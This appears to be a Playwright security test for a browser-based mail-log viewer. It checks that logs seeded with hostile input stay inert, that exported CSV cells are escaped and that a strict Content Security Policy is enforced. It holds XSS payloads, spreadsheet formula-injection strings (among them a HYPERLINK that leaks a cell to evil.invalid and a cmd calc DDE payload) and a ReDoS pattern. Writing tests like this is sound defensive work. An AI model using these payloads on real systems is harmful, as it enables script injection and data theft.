import { readFileSync } from 'node:fs';
import iconv from 'iconv-lite';
import type { Page } from '@playwright/test';
import { expect, test } from './support/test';
import { collectErrors } from './support/collect-errors';
import { cspViolations, recordCspViolations, tryInjections } from './support/csp';

// What a stranger can put in a log: every field they control (the name their host resolves to, the
// HELO/EHLO name, the AUTH line, the user name, the envelope addresses, the MTA report's addresses)
// carries markup that would run if it ever became HTML, and formulas a spreadsheet would run.
// Layout: shared/reference/log-format.md (1.88a lines with thread-JobID; the report log's tab fields).
const SCRIPT = `<script>window.__xss='script'</script>`;
const IMG = `<img src=x onerror=alert(1)>`;
const SVG = `<svg onload="window.__xss='svg'">`;
const FRAME = `"><iframe srcdoc="<script>parent.__xss='iframe'</script>">`;
const HYPERLINK = `=HYPERLINK("http://evil.invalid/?leak="&A1,"Click")`;
const CALC = `+cmd|' /C calc'!A0`;

const smtp = [
  `[SMTP] 2025/04/01 10:00:00 SMTP サービスを開始しました。(Debug Level3)`,
  `[SMTP] 2025/04/01 10:00:01 [000-00001] Connect from ${IMG}(203.0.113.9)`,
  `[SMTP] 2025/04/01 10:00:01 [000-00001] 220 mail.example.jp ESMTP PMailServer 1.88a; Date: Tue,01 Apr 2025 10:00:01 +0900(JST)`,
  `[SMTP] 2025/04/01 10:00:02 [000-00001] EHLO ${SCRIPT}`,
  `[SMTP] 2025/04/01 10:00:02 [000-00001] 250-mail.example.jp Hello ${SCRIPT} [203.0.113.9], pleased to meet you.`,
  `[SMTP] 2025/04/01 10:00:03 [000-00001] AUTH LOGIN ${SVG}`,
  `[SMTP] 2025/04/01 10:00:03 [000-00001] 334 VXNlcm5hbWU6`,
  `[SMTP] 2025/04/01 10:00:03 [000-00001] ********`,
  `[SMTP] 2025/04/01 10:00:04 [000-00001] 535 Authentication failed`,
  `[SMTP] 2025/04/01 10:00:04 [000-00001] SMTP 認証に失敗しました。(${FRAME})`,
  `[SMTP] 2025/04/01 10:00:05 [000-00001] MAIL FROM:<${SCRIPT}@example.jp>`,
  `[SMTP] 2025/04/01 10:00:05 [000-00001] 250 2.1.0 <${SCRIPT}@example.jp>... Sender ok`,
  `[SMTP] 2025/04/01 10:00:05 [000-00001] RCPT TO:<${HYPERLINK}@example.com>`,
  `[SMTP] 2025/04/01 10:00:06 [000-00001] 550 5.7.1 <${HYPERLINK}@example.com>... Relaying denied`,
  `[SMTP] 2025/04/01 10:00:06 [000-00001] ${CALC}`,
  `[SMTP] 2025/04/01 10:00:06 [000-00001] -2+3+cmd|' /C calc'!A0`,
  `[SMTP] 2025/04/01 10:00:06 [000-00001] @SUM(1+1)*cmd|' /C calc'!A0`,
  `[SMTP] 2025/04/01 10:00:06 [000-00001] \t=1+1`,
  `[SMTP] 2025/04/01 10:00:06 [000-00001] \r=1+1`,
  `[SMTP] 2025/04/01 10:00:07 [000-00001] QUIT`,
  `[SMTP] 2025/04/01 10:00:07 [000-00001] Disconnect from ${IMG}(203.0.113.9)`,
  HYPERLINK,
];
const mta = [
  `[MTA] 2025/04/01 10:01:00 MTA サービスを開始しました。(Debug Level2)`,
  `[MTA] 2025/04/01 10:01:01 [001-00002] 配信を開始します。(${SCRIPT}@example.jp -> ${IMG}@example.net)`,
  `[MTA] 2025/04/01 10:01:01 [001-00002] Connect to ${SVG}(203.0.113.77)`,
  `[MTA] 2025/04/01 10:01:02 [001-00002] EHLO mail.example.jp`,
  `[MTA] 2025/04/01 10:01:02 [001-00002] MAIL FROM:<${SCRIPT}@example.jp>`,
  `[MTA] 2025/04/01 10:01:02 [001-00002] RCPT TO:<${IMG}@example.net>`,
  `[MTA] 2025/04/01 10:01:03 [001-00002] 配信先サーバが RCPT TO にエラー応答しました。`,
  `[MTA] 2025/04/01 10:01:03 [001-00002] QUIT`,
  `[MTA] 2025/04/01 10:01:03 [001-00002] Disconnect from ${SVG}(203.0.113.77)`,
];
const report = [
  `2025/04/01 10:01:03\t${HYPERLINK}@example.jp\t${FRAME}@example.net\t0`,
  `2025/04/01 10:01:04\tx${SCRIPT}@example.jp\tjavascript:alert(1)@example.net\t-4`,
  `2025/04/01 10:01:05\t@SUM(1+1)@example.jp\t-2+3@example.net\t-1`,
];

const crlf = (lines: string[]) => lines.join('\r\n') + '\r\n';
const FILES = [
  { name: `${IMG}.log`, mimeType: 'text/plain', buffer: iconv.encode(crlf(smtp), 'Shift_JIS') },
  { name: `${SCRIPT}mta.log`, mimeType: 'text/plain', buffer: Buffer.from(crlf(mta), 'utf8') },
  { name: `${HYPERLINK}.log`, mimeType: 'text/plain', buffer: iconv.encode(crlf(report), 'Shift_JIS') },
];
const LINES = smtp.length + mta.length + report.length;

const idle = (page: Page) => page.evaluate(() => window.__logview.idle());

/** Nothing of the logs became markup or ran; the page still answers a click at once. */
async function expectInert(page: Page) {
  expect(await page.evaluate(() => (window as unknown as { __xss?: string }).__xss)).toBeUndefined();
  await expect(page.locator('#root img, #root script, #root iframe, #root object, #root embed')).toHaveCount(
    0,
  );
  await expect(page.locator('[onerror], [onload], [srcdoc]')).toHaveCount(0);
  await page.getByRole('heading', { name: 'PMail Log Viewer' }).click({ timeout: 2_000 });
}

/** A minimal RFC 4180 reader: quoted cells may hold commas, quotes (doubled) and line breaks. */
function readCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i];
    if (quoted && c === '"' && text[i + 1] === '"') {
      cell += '"';
      i++;
    } else if (c === '"') {
      quoted = !quoted;
    } else if (!quoted && c === ',') {
      row.push(cell);
      cell = '';
    } else if (!quoted && c === '\r' && text[i + 1] === '\n') {
      rows.push([...row, cell]);
      row = [];
      cell = '';
      i++;
    } else {
      cell += c;
    }
  }
  if (cell !== '' || row.length > 0) rows.push([...row, cell]);
  return rows;
}

test('logs full of markup and formulas stay text everywhere, and the CSV runs nothing', async ({ page }) => {
  const errors = collectErrors(page);
  const dialogs: string[] = [];
  page.on('dialog', async (d) => {
    dialogs.push(d.message());
    await d.dismiss();
  });
  await recordCspViolations(page);
  await page.goto('/');
  await page.getByTestId('file-input').setInputFiles(FILES);
  await expect(page.getByTestId('row-count')).toHaveAttribute('data-count', String(LINES), {
    timeout: 30_000,
  });
  await idle(page);

  // The table and the file list show the payloads as text.
  await expect(page.getByTestId('log-row').filter({ hasText: `EHLO ${SCRIPT}` })).toHaveCount(1);
  const fileNames = await page.getByTestId('file-row').evaluateAll((rows) => rows.map((r) => r.dataset.name));
  expect(fileNames.sort()).toEqual(FILES.map((f) => f.name).sort());
  await expectInert(page);

  // The overview: the hostile peer names in its lists (as far as a name goes: up to a space).
  const overview = page.getByTestId('overview');
  await expect(overview).toContainText('SMTP <img');
  await expect(overview).toContainText('MTA <svg');
  await expectInert(page);

  // The conversation of the hostile session.
  await page
    .getByTestId('log-row')
    .filter({ hasText: `EHLO ${SCRIPT}` })
    .getByTestId('thread-link')
    .click();
  await idle(page);
  const conversation = page.getByTestId('conversation');
  await expect(conversation).toContainText(`Connect from ${IMG}(203.0.113.9)`);
  await expect(conversation).toContainText(`AUTH LOGIN ${SVG}`);
  await expect(conversation).toContainText(`RCPT TO:<${HYPERLINK}@example.com>`);
  await expectInert(page);

  // The deliveries, and a delivery's journey.
  await page.getByTestId('tab-deliveries').click();
  await idle(page);
  await expect(page.getByTestId('report-count')).toHaveAttribute('data-shown', String(report.length));
  const hostile = page.getByTestId('report-row').filter({ hasText: 'javascript:alert(1)@example.net' });
  await hostile.getByTestId('journey-link').click();
  await idle(page);
  await expect(page.getByTestId('journey')).toContainText(`javascript:alert(1)@example.net`);
  await expectInert(page);

  // The CSV of every line: a cell never starts with what a spreadsheet runs.
  await page.getByTestId('tab-log').click();
  await idle(page);
  const [download] = await Promise.all([
    page.waitForEvent('download'),
    page.getByTestId('export-csv').click(),
  ]);
  const rows = readCsv(readFileSync(await download.path(), 'utf8').replace(/^\ufeff/, ''));
  expect(rows).toHaveLength(LINES + 1);
  for (const cell of rows.flat()) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  const cells = new Set(rows.flat());
  expect(cells).toContain(`'${HYPERLINK}`); // the unparsed line
  expect(cells).toContain(`'${HYPERLINK}.log`); // the file's name
  expect(cells).toContain(`'${CALC}`);
  expect(cells).toContain(`'\t=1+1`);

  // A catastrophic pattern: the page keeps answering while the engine runs it.
  await page.getByTestId('regex-toggle').check();
  await page.getByTestId('text-filter').fill('(a+)+$');
  await page.getByTestId('text-filter').press('Enter');
  await page.getByTestId('tab-deliveries').click({ timeout: 2_000 });
  await page.getByTestId('tab-log').click({ timeout: 2_000 });
  await idle(page);
  // A pattern that finds the markup: shown as text in the rows it keeps.
  await page.getByTestId('clear-filters').click();
  await page.getByTestId('regex-toggle').check();
  await page.getByTestId('text-filter').fill(`<script>.*</script>`);
  await page.getByTestId('text-filter').press('Enter');
  await idle(page);
  await expect(page.getByTestId('log-row').first()).toContainText('<script>');
  await expectInert(page);

  expect(dialogs).toEqual([]);
  expect(await cspViolations(page)).toEqual([]);
  expect(errors).toEqual([]);
});

test('the built page carries a strict CSP, as a header and a <meta>, and the browser enforces it', async ({
  page,
}) => {
  await recordCspViolations(page);
  const response = await page.goto('/');
  const header = response?.headers()['content-security-policy'] ?? '';
  const meta =
    (await page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content')) ?? '';
  for (const policy of [header, meta]) {
    expect(policy).toContain("default-src 'none'");
    expect(policy).toContain("script-src 'self' 'wasm-unsafe-eval'");
    expect(policy).toContain("object-src 'none'");
    expect(policy).toContain("base-uri 'none'");
    expect(policy).toContain("form-action 'none'");
    expect(policy).not.toContain('unsafe-inline');
    expect(policy).not.toContain("'unsafe-eval'");
    expect(policy).not.toMatch(/https?:|\*/);
  }
  expect(header).toContain("frame-ancestors 'none'");
  // The app runs under it: the sample loads (workers, WebAssembly, the lazy chart) with no violation.
  await page.getByTestId('load-sample').click();
  await expect(page.getByTestId('row-count')).toBeVisible({ timeout: 30_000 });
  await idle(page);
  expect(await cspViolations(page)).toEqual([]);

  expect(await tryInjections(page)).toEqual([]);
  await expect
    .poll(async () => new Set((await cspViolations(page)).map((v) => v.split(' ')[0])))
    .toEqual(new Set(['script-src-elem', 'script-src-attr', 'style-src-elem', 'connect-src']));
});
